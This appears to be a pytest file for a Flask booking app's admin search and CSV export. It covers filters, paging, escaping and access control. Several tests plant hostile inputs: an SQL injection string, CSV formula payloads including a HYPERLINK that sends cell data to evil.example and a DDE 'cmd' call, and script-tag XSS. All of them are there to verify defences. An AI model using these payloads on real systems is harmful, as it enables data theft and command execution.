"""Every booking, for organisers: found, filtered, paged, and taken along as CSV."""

from __future__ import annotations

import csv
import re
from io import StringIO

import pytest
import sqlalchemy as sa
from flask import Flask

from benchmarks.statements import counted
from booking.booking_search import BATCH
from booking.extensions import db
from booking.models import Account, Booking, Role
from booking.paging import PAGE
from tests.web.browser import Browser, bookings, set_policy, text_of
from tests.web.conftest import FIRST, Begin

LATER = "2026-12-02T15:00:00Z"
WEI = "wei@example.com"


def two_bookings(app: Flask) -> None:
    """Asha's at 7 am in Los Angeles, and Wei's, two days later."""
    set_policy(app, open_bookings_per_address=9)
    Browser(app).booked(FIRST)
    Browser(app).booked(LATER, name="Wei", email=WEI, question="Why does 100% of my_cache miss?")


@pytest.fixture
def admin(begin: Begin) -> Browser:
    """An administrator, and two bookings."""
    return Browser(begin(two_bookings)).sign_in(None)


def found(admin: Browser, **fields: str) -> list[str]:
    """The names on the page of the bookings that are like this."""
    page = admin.send("/admin/bookings", admin.get("/admin/bookings"), **fields)
    assert page.status_code == 200
    return [name for name in ("Asha Rao", "Wei") if f"<bdi>{name}</bdi>" in page.text]


def downloaded(admin: Browser, **fields: str) -> list[dict[str, str]]:
    answer = admin.send("/admin/bookings.csv", admin.get("/admin/bookings"), **fields)
    assert answer.mimetype == "text/csv", answer.text
    assert answer.headers["Content-Disposition"] == 'attachment; filename="bookings-2026-11-30.csv"'
    assert answer.headers["Cache-Control"] == "no-store"
    return list(csv.DictReader(StringIO(answer.text, newline="")))


def many(app: Flask, number: int) -> None:
    """So many copies of the first booking, cancelled."""
    with app.app_context():
        first = db.session.scalars(sa.select(Booking).order_by(Booking.id)).first()
        assert first is not None
        columns = {column.key: getattr(first, column.key) for column in Booking.__table__.columns}
        del columns["id"]
        own = [f"{each:08x}{0:024x}" for each in range(number)]
        rows = [columns | {"public_id": each, "idempotency_key": each, "status": "cancelled"} for each in own]
        db.session.execute(sa.insert(Booking), rows)
        db.session.commit()


def test_words_are_looked_for_in_name_address_question_and_reference(app: Flask, admin: Browser) -> None:
    """All of them must be there, in any case; signs mean themselves."""
    reference = bookings(app)[0].reference
    assert found(admin) == ["Asha Rao", "Wei"]
    assert found(admin, words="rao ASHA") == ["Asha Rao"]
    assert found(admin, words="rao wei") == []
    assert found(admin, words="WEI@example") == ["Wei"]
    assert found(admin, words="100%") == found(admin, words="my_cache") == ["Wei"]
    assert found(admin, words="%") == ["Wei"]
    assert found(admin, words=reference) == found(admin, words=reference.lower()) == ["Asha Rao"]
    assert found(admin, words="' OR 1=1 --") == []


def test_filters_go_together(app: Flask, admin: Browser) -> None:
    """Status, topic, maintainer and days, which are the community's, both ends included."""
    first, second = bookings(app)
    with app.app_context():
        db.session.execute(sa.update(Booking).where(Booking.id == second.id).values(status="no-show"))
        db.session.commit()
    assert found(admin, status="no-show") == ["Wei"]
    assert found(admin, status="no-show", words="asha") == []
    assert found(admin, topic="flytekit") == ["Asha Rao", "Wei"]
    assert found(admin, topic="releases") == []
    assert "Asha Rao" in found(admin, maintainer=first.maintainer.key)
    assert found(admin, first="2026-11-30", last="2026-11-30") == ["Asha Rao"]
    assert found(admin, first="2026-12-01") == ["Wei"]
    empty = admin.get("/admin/bookings?status=cancelled")
    assert "No booking is like this." in text_of(empty)
    with app.app_context():
        db.session.execute(sa.update(Booking).values(hold_network="192.0.2.0"))
        db.session.commit()
    assert "Nobody has booked yet." in text_of(admin.get("/admin/bookings"))


@pytest.mark.parametrize(
    "fields",
    [
        {"first": "yesterday"},
        {"last": "2026-02-30"},
        {"last": "2026-11-30", "first": "2026-12-01"},
        {"status": "x"},
        {"topic": "x", "first": "2026-12-01"},
        {"words": "asha " * 1000},
    ],
)
def test_a_wrong_filter_is_said_and_kept(admin: Browser, fields: dict[str, str]) -> None:
    """422 with a link to the field, for the page and for the file; more words than a database takes are wrong, too."""
    for path in ("/admin/bookings", "/admin/bookings.csv"):
        page = admin.send(path, admin.get("/admin/bookings"), **{"words": "asha"} | fields)
        assert page.status_code == 422
        assert f'href="#{next(iter(fields))}"' in page.text
        assert 'value="asha' in page.text


def test_a_form_half_filled_is_nobodys_booking(app: Flask, admin: Browser, visitor: Browser) -> None:
    """Nor is it counted."""
    with app.app_context():
        db.session.execute(sa.update(Booking).where(Booking.attendee_email == WEI).values(hold_network="192.0.2.0"))
        db.session.commit()
    assert found(admin) == ["Asha Rao"]


def test_pages_lead_on_with_the_same_filters(app: Flask, admin: Browser) -> None:
    """The newest first, none twice and none left out; how many there are does not change what the database is asked."""
    with counted(app) as few:
        admin.get("/admin/bookings")
    many(app, PAGE + 5)
    with counted(app) as lots:
        page = admin.get("/admin/bookings?status=cancelled")
    assert len(lots.statements) == len(few.statements) <= 8
    assert f"{PAGE + 5} bookings" in text_of(page)
    seen = re.findall(r">([0-9A-F]{8})</a>", page.text)
    [before] = re.findall(r'name="before" value="(\d+)"', page.text)
    older = admin.send("/admin/bookings", page, status="cancelled", before=before)
    rest = re.findall(r">([0-9A-F]{8})</a>", older.text)
    assert (len(seen), len(rest)) == (PAGE, 5)
    assert [int(each, 16) for each in seen + rest] == list(reversed(range(PAGE + 5)))
    assert 'name="before"' not in older.text
    assert "Newest" in older.text
    for strange in ("x", "-1", "9" * 30):
        assert admin.get(f"/admin/bookings?before={strange}").status_code == 200


def test_the_file_has_the_same_selection_in_utc_and_local_time(app: Flask, admin: Browser) -> None:
    """A row a booking, with every word of the question."""
    [row] = downloaded(admin, words="asha")
    assert row["reference"] == bookings(app)[0].reference
    assert row["starts_at_utc"] == "2026-11-30T15:00:00Z"
    assert row["starts_at_local"] == "2026-11-30T07:00:00-08:00"
    assert (row["timezone"], row["topic"], row["slot"]) == ("America/Los_Angeles", "flytekit", "7am")
    assert (row["attendee_name"], row["links"]) == ("Asha Rao", "https://github.com/flyteorg/flyte/issues/1")


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝"])
def test_no_cell_is_a_formula(app: Flask, admin: Browser, first: str) -> None:
    """Whatever an attendee called themselves or asked: a spreadsheet shows it and calculates nothing."""
    hostile = f"""{first}HYPERLINK("https://evil.example?"&A1,"x"),{first}1"""
    with app.app_context():
        db.session.execute(sa.update(Booking).values(attendee_name=hostile, question=hostile, cancel_reason=hostile))
        db.session.commit()
    for row in downloaded(admin):
        assert row["attendee_name"] == row["question"] == row["cancel_reason"] == f"'{hostile}"
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝")) for cell in row.values())


def test_no_cell_is_a_formula_to_a_program_that_splits_otherwise(app: Flask, admin: Browser) -> None:
    """At semicolons, tabs and every line break, and blind to quotes, as where a comma stands in numbers."""
    hostile = """a;=1;@SUM(A1)\t-2\n+3\r\n＝cmd|' /C calc'!A0"""
    with app.app_context():
        db.session.execute(sa.update(Booking).values(attendee_name=hostile, question=hostile))
        db.session.commit()
    for row in downloaded(admin):
        assert row["question"] == """a;'=1;'@SUM(A1)\t'-2\n'+3\r\n'＝cmd|' /C calc'!A0"""


def test_names_with_signs_of_the_format_stay_in_their_cell(app: Flask, admin: Browser) -> None:
    """Commas, quotes and line breaks neither begin a cell nor end a row."""
    name = 'Asha, "Rao"\r\n; 1+1'
    with app.app_context():
        db.session.execute(sa.update(Booking).values(attendee_name=name))
        db.session.commit()
    assert [row["attendee_name"] for row in downloaded(admin)] == [name, name]


def test_the_file_is_written_in_batches(app: Flask, admin: Browser) -> None:
    """None twice and none left out where one batch ends and the next begins, and no batch is held with the next."""
    many(app, BATCH + 1)
    rows = downloaded(admin)
    assert len({row["reference"] for row in rows}) == len(rows) == BATCH + 3
    form = admin.get("/admin/bookings")
    token = re.findall(r'name="csrf_token" value="([^"]+)"', form.text)[0]
    with admin.client.post("/admin/bookings.csv", data={"csrf_token": token}) as answer:
        assert answer.is_streamed
        assert len(list(answer.response)) >= 3


def test_markup_of_a_stranger_is_text(app: Flask, admin: Browser) -> None:
    """In names and questions."""
    with app.app_context():
        db.session.execute(sa.update(Booking).values(attendee_name="<img src=x>", question="<script>alert(1)</script>"))
        db.session.commit()
    page = admin.get("/admin/bookings").text
    assert "<img src=x>" not in page
    assert "<script>alert" not in page
    assert "&lt;img src=x&gt;" in page


def test_each_booking_leads_to_its_session(app: Flask, admin: Browser) -> None:
    """For organisers too, who get no private link of an attendee; what was never confirmed has no such page."""
    first, second = bookings(app)
    with app.app_context():
        db.session.execute(sa.update(Booking).where(Booking.id == second.id).values(status="held"))
        db.session.commit()
    for somebody in (admin, Browser(app).sign_in_as(Role.ORGANISER, "olga@example.org")):
        page = somebody.get("/admin/bookings")
        assert re.findall(r'href="(/maintainer/sessions/[^"]+)"', page.text) == [f"/maintainer/sessions/{first.id}"]
        assert first.reference in somebody.get(f"/maintainer/sessions/{first.id}").text
        assert "/b/" not in page.text


def test_mallory_reaches_neither_page_nor_file(app: Flask, admin: Browser) -> None:
    """Maintainers, strangers and the disabled get nobody's name, whatever they send."""
    mallory, stranger = Browser(app).sign_in("example-2"), Browser(app)
    form = mallory.get("/maintainer")
    for path in ("/admin/bookings", "/admin/bookings.csv"):
        answer = mallory.send(path, form, words="asha")
        assert answer.status_code == 403
        assert "asha" not in answer.text.lower()
        assert stranger.send(path, stranger.get("/sign-in")).status_code == 403
    assert mallory.get("/admin/bookings").status_code == 403
    assert stranger.get("/admin/bookings").location == "/sign-in"
    open_page = admin.get("/admin/bookings")
    with app.app_context():
        db.session.execute(sa.update(Account).values(disabled=True))
        db.session.commit()
    assert admin.send("/admin/bookings.csv", open_page).status_code == 403
